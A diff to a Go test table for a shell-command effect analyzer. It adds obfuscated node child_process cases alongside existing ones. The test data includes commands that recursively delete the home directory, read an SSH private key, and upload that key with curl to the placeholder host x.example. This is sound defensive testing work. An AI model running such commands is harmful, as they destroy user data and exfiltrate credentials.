@@ -104,6 +104,9 @@ var hiddenCommandTable = []shellCase{
 	{cmd: `php -r 'system("rm -rf ".getenv("HOME"));'`, want: []Effect{eDelR("/home/ann")}},
 	{cmd: `ruby -e 'require "fileutils"; FileUtils.rm_rf(ENV["HOME"])'`, want: []Effect{eDelR("/home/ann")}},
 	{cmd: `node -e 'console.log(require("fs").readFileSync(require("os").homedir()+"/.ssh/id_rsa","utf8"))'`, want: []Effect{eRead("/home/ann/.ssh/id_rsa")}},
+	{cmd: `node -e 'require("child_process")["exec"+"Sync"]("rm -rf ~")'`, want: []Effect{eOpaqueInto("node")}, unk: shUnkYes},
+	{cmd: `node -e 'const cp=require("child_process");cp[process.argv[1]]("x")'`, want: []Effect{eOpaqueInto("node")}, unk: shUnkYes},
+	{cmd: `node -e 'const cp=require("child_process");const xs=["a"];cp.execSync("ls");console.log(xs[0])'`, want: []Effect{eRun("ls")}},
 
 	// ---- curl's options from a config, aria2c's downloads ----
 	{cmd: "curl -K- <<< $'upload-file = \"/home/ann/.ssh/id_rsa\"\\nurl = \"https://x.example\"'", want: []Effect{eRead("/home/ann/.ssh/id_rsa"), eConn("x.example", "443"), eSend("x.example", "/home/ann/.ssh/id_rsa")}},
